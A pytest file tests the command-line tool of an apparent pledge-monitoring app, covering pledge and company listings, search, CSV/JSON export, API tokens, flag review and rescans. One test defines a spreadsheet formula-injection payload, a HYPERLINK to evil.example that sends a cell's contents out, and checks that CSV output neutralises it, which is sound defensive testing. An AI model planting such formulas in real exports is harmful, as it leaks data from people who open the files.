"""The query, search, export, token, review and rescan commands on a real SQLite file."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import text

from feeds.subscriptions import add_feed
from monitor.cli import cli
from monitor.store.db import open_database
from pledges.catalogue import shipped_catalogue
from tests.monitor.querydata import AMAZON, flag_ids, sample_file


@pytest.fixture(scope="module")
def template_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("sample")


@pytest.fixture
def run(template_dir: Path, tmp_path: Path):
    path = sample_file(template_dir, tmp_path / "pledgewatch.db")

    def invoke(*args: str, ok: bool = True):
        result = CliRunner().invoke(cli, ["--db", str(path), *args], catch_exceptions=False)
        if ok:
            assert result.exit_code == 0, result.output
        return result

    invoke.path = path  # type: ignore[attr-defined]
    return invoke


def test_pledges_list_as_json_and_csv(run):
    rows = json.loads(run("pledges", "list", "--format", "json").output)
    table = list(csv.DictReader(io.StringIO(run("pledges", "list", "--format", "csv").output)))
    assert len(rows) == len(table) == len(list(shipped_catalogue().glob("*.yaml")))
    assert {r["id"] for r in rows} == {r["id"] for r in table}
    assert {"open_flags", "confirmed_flags"} <= set(table[0])


def test_pledges_show_lists_the_timeline_and_confirmed_breaches(run):
    fid = flag_ids(open_database(f"sqlite:///{run.path}"), AMAZON)[0]
    run(
        "flags",
        "review",
        str(fid),
        "--confirm",
        "--note",
        "tribunal",
        "--reviewer",
        "ana",
        "--response",
        "denied",
        "--response-source",
        "https://example.org/statement",
    )
    data = json.loads(run("pledges", "show", AMAZON, "--format", "json").output)
    assert [f["id"] for f in data["confirmed"]] == [fid]
    assert data["confirmed"][0]["response"] == "denied"
    assert data["timeline"][0]["kind"] == "made"
    text = run("pledges", "show", AMAZON).output
    assert "Timeline" in text and "Confirmed breaches" in text and f"#{fid}" in text
    assert "company response: denied" in text
    missing = run("pledges", "show", "nope", ok=False)
    assert missing.exit_code == 1 and "no pledge with id 'nope'" in missing.output


def test_a_stale_cli_review_is_refused(run):
    fid = flag_ids(open_database(f"sqlite:///{run.path}"), AMAZON)[0]
    run("flags", "review", str(fid), "--dismiss", "--expected-version", "0")
    stale = run("flags", "review", str(fid), "--confirm", "--expected-version", "0", ok=False)
    assert stale.exit_code == 1 and "reviewed since you loaded it" in stale.output


def test_companies_list_and_show(run):
    rows = json.loads(run("companies", "list", "--format", "json").output)
    assert "Amazon" in {r["name"] for r in rows}
    data = json.loads(run("companies", "show", "aws", "--format", "json").output)
    assert data["name"] == "Amazon" and AMAZON in {p["id"] for p in data["pledges"]}
    assert "Rekognition" in run("companies", "show", "Amazon").output
    assert run("companies", "show", "Nobody", ok=False).exit_code == 1
    # An id too long for the database's integer is no company, not an overflow.
    too_long = run("companies", "show", "9" * 20, ok=False)
    assert too_long.exit_code == 1 and "no company" in too_long.output


def test_search_outputs_json_and_csv(run):
    hits = json.loads(run("search", "tribunal police", "--format", "json").output)
    assert hits and all({"id", "title", "snippet", "flags"} <= set(h) for h in hits)
    rows = list(
        csv.DictReader(
            io.StringIO(run("search", "tribunal", "--company", "Amazon", "--format", "csv").output)
        )
    )
    assert rows and set(rows[0]) == {"id", "published", "title", "url", "snippet", "flags"}
    assert "match" in run("search", '"unbalanced').output


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl"])
@pytest.mark.parametrize("what", ["pledges", "flags", "articles"])
def test_export_writes_every_row(run, tmp_path: Path, what: str, fmt: str):
    out = tmp_path / f"{what}.{fmt}"
    result = run("export", what, "--format", fmt, "--out", str(out))
    text = out.read_text(encoding="utf-8")
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(text)))
    elif fmt == "json":
        rows = json.loads(text)
    else:
        rows = [json.loads(line) for line in text.splitlines()]
    assert f"exported {len(rows)} {what}" in result.output
    assert len(rows) >= 10
    assert len({r["id"] for r in rows}) == len(rows)
    stdout = run("export", what, "--format", fmt).output
    assert stdout.replace("\r\n", "\n") == text.replace("\r\n", "\n")


def test_tokens_are_printed_once_listed_without_secret_and_revoked(run):
    created = run("token", "create", "alice")
    secret = created.stdout.strip()
    assert secret.startswith("pw_") and len(secret) > 30
    listed = run("token", "list", "--format", "json").output
    assert secret not in listed and json.loads(listed)[0]["status"] == "active"
    assert run("token", "create", "alice", ok=False).exit_code == 1
    assert "revoked" in run("token", "revoke", "alice").output
    assert json.loads(run("token", "list", "--format", "json").output)[0]["status"] == "revoked"
    assert run("token", "revoke", "bob", ok=False).exit_code == 1


def test_rescan_dry_run_as_json_and_a_backtest_of_a_folder(run, tmp_path: Path):
    data = json.loads(run("rescan", "--dry-run", "--format", "json").output)
    assert data["dry_run"] and data["articles"] >= 30 and data["changes"] == []
    folder = tmp_path / "cat"
    folder.mkdir()
    src = shipped_catalogue() / f"{AMAZON}.yaml"
    (folder / src.name).write_text(src.read_text(encoding="utf-8"), encoding="utf-8")
    backtest = json.loads(
        run(
            "rescan",
            "--dry-run",
            "--catalogue",
            str(folder),
            "--pledge",
            AMAZON,
            "--format",
            "json",
        ).output
    )
    assert backtest["changes"] == []  # the same pledge finds the same flags
    refused = run("rescan", "--catalogue", str(folder), ok=False)
    assert refused.exit_code == 2 and "--dry-run" in refused.output
    assert "scanned" in run("rescan", "--since", "2024-01-01").output


def test_a_backtest_detects_as_the_database_would_from_its_configured_score(
    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    folder = tmp_path / "cat"
    folder.mkdir()
    src = shipped_catalogue() / f"{AMAZON}.yaml"
    (folder / src.name).write_text(src.read_text(encoding="utf-8"), encoding="utf-8")
    args = ("rescan", "--dry-run", "--catalogue", str(folder), "--pledge", AMAZON)
    stored = flag_ids(open_database(f"sqlite:///{run.path}"), AMAZON)
    assert stored
    # From a score no finding reaches, the backtest would take every stored flag away.
    monkeypatch.setenv("PLEDGEWATCH_DETECT_MIN_SCORE", "1.0")
    changes = json.loads(run(*args, "--format", "json").output)["changes"]
    assert {c["action"] for c in changes} == {"deactivated"} and len(changes) == len(stored)


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


@pytest.mark.parametrize(
    "args",
    [
        ("flags", "list", "--format", "csv"),
        ("flags", "list", "--group", "--format", "csv"),
        ("export", "flags", "--format", "csv"),
        ("export", "articles", "--format", "csv"),
        ("search", "tribunal", "--format", "csv"),
        ("feeds", "list", "--format", "csv"),
    ],
)
def test_csv_cells_never_start_a_formula(run, args: tuple[str, ...]):
    """Feed text starting with = + - @ (or tab, CR) is written as text, not a formula."""
    db = open_database(f"sqlite:///{run.path}")
    with db.write() as session:
        session.execute(text("UPDATE articles SET title = :t || ' tribunal'"), {"t": FORMULA})
        add_feed(session, url="https://e.org/f", name="@SUM(1+1)")
    db.dispose()
    rows = list(csv.reader(io.StringIO(run(*args).output)))
    cells = [c for row in rows[1:] for c in row]
    assert rows[1:], "no rows to check"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    shown = {c.removeprefix("'") for c in cells}
    assert any(FORMULA in c for c in shown) or "@SUM(1+1)" in shown


@pytest.mark.parametrize(
    "args",
    [
        ("flags", "list"),
        ("pledges", "list"),
        ("companies", "list"),
        ("search", "tribunal"),
        ("flags", "show", "1"),
        ("feeds", "list"),
    ],
)
def test_read_commands_never_create_a_database(tmp_path: Path, args: tuple[str, ...]):
    missing = tmp_path / "typo" / "pledgewatch.db"
    result = CliRunner().invoke(cli, ["--db", str(missing), *args])
    assert result.exit_code != 0
    assert result.output.strip().splitlines() == [
        f"Error: no database at {missing}; create it with `pledgewatch catalogue sync`"
    ]
    assert not missing.exists() and not missing.parent.exists()


def test_an_empty_database_names_the_next_command(tmp_path: Path):
    empty = tmp_path / "empty.db"
    empty.touch()
    result = CliRunner().invoke(cli, ["--db", str(empty), "flags", "list"])
    assert result.exit_code != 0 and "`pledgewatch catalogue sync`" in result.output
    assert empty.stat().st_size == 0
    schema_only = tmp_path / "schema.db"
    assert CliRunner().invoke(cli, ["--db", str(schema_only), "db", "upgrade"]).exit_code == 0
    result = CliRunner().invoke(cli, ["--db", str(schema_only), "pledges", "list"])
    assert result.exit_code != 0
    assert "holds no pledges yet; load them with `pledgewatch catalogue sync`" in result.output


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (("flags", "list", "--company", "amazn"), "no company 'amazn'; nearest: Amazon"),
        (
            ("flags", "list", "--pledge", "rekognition"),
            f"no pledge 'rekognition'; nearest: {AMAZON}",
        ),
        (("pledges", "list", "--company", "Gogle"), "no company 'Gogle'; nearest: Google"),
        (("search", "police", "--pledge", "amazon-rekog"), f"nearest: {AMAZON}"),
        (("search", "police", "--company", "nobody-at-all"), "no company 'nobody-at-all'"),
    ],
)
def test_unknown_filter_values_are_errors_with_the_nearest_matches(run, args, expected):
    result = run(*args, ok=False)
    assert result.exit_code == 2
    assert expected in result.output and "Invalid value for --" in result.output


def test_search_takes_several_words_and_names_articles_that_open(run):
    result = run("search", "rekognition", "police", "--format", "json")
    hits = json.loads(result.output)
    assert hits and all("rekognition" in (h["title"] + h["snippet"]).lower() for h in hits)
    assert hits == json.loads(run("search", "rekognition police", "--format", "json").output)
    text = run("search", "rekognition", "police").output
    assert f"article {hits[0]['id']} ·" in text and "pledgewatch articles show ID" in text
    assert "Query syntax" in run("search", "--help").output


def test_articles_show_opens_an_article_with_its_flags(run):
    fid = flag_ids(open_database(f"sqlite:///{run.path}"), AMAZON)[0]
    flag = json.loads(run("flags", "show", str(fid), "--format", "json").output)
    article_id = flag["article"]["id"]
    data = json.loads(run("articles", "show", str(article_id), "--format", "json").output)
    assert data["title"] == flag["article"]["title"]
    assert fid in [f["id"] for f in data["flags"]]
    text = run("articles", "show", str(article_id)).output
    assert f"flag #{fid} breach" in text and data["title"] in text
    missing = run("articles", "show", "999999", ok=False)
    assert missing.exit_code == 1 and "no article with id 999999" in missing.output


def test_flags_csv_has_a_column_per_field_a_reviewer_reports_on(run):
    fid = flag_ids(open_database(f"sqlite:///{run.path}"), AMAZON)[0]
    run("flags", "review", str(fid), "--confirm", "--note", "filing seen", "--reviewer", "ana")
    run("flags", "review", str(fid), "--response", "denied", "--reviewer", "ben")
    rows = list(csv.DictReader(io.StringIO(run("export", "flags", "--format", "csv").output)))
    row = next(r for r in rows if r["id"] == str(fid))
    assert row["pledge_title"].startswith("Moratorium on police use of Amazon Rekognition")
    # The latest decision, not the later response-only review.
    assert (row["decision"], row["reviewer"], row["review_note"]) == (
        "confirmed",
        "ana",
        "filing seen",
    )
    assert row["reviewed_at"][:4].isdigit() and row["response"] == "denied"
    # Evidence and reasons are plain text, not JSON.
    assert not row["evidence"].startswith(("[", "{")) and "Rekognition" in row["evidence"]
    assert not row["reasons"].startswith("[") and "; " in row["reasons"]
    untouched = next(r for r in rows if r["id"] != str(fid))
    assert untouched["decision"] == untouched["reviewer"] == ""
    data = json.loads(run("export", "flags", "--format", "json").output)
    assert isinstance(next(d for d in data if d["id"] == fid)["evidence"], list)
